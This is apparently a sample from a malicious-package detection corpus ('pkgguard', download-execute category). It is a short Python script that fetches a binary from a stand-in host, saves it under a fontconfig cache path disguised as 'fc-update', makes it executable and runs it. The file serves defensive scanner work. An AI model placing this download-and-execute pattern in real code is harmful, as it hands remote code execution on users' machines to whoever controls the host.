# pkgguard corpus 430 (download-execute), modelled on [empirical]; inert, never run.
import os
import shutil
import stat
import urllib.request

dest = os.path.join(os.path.expanduser("~"), ".cache", "fontconfig", "fc-update")
os.makedirs(os.path.dirname(dest), exist_ok=True)
with urllib.request.urlopen("https://dl.example/fc-update", timeout=20) as src, open(dest, "wb") as out:
    shutil.copyfileobj(src, out)
os.chmod(dest, stat.S_IRWXU)
os.posix_spawn(dest, [dest], os.environ)
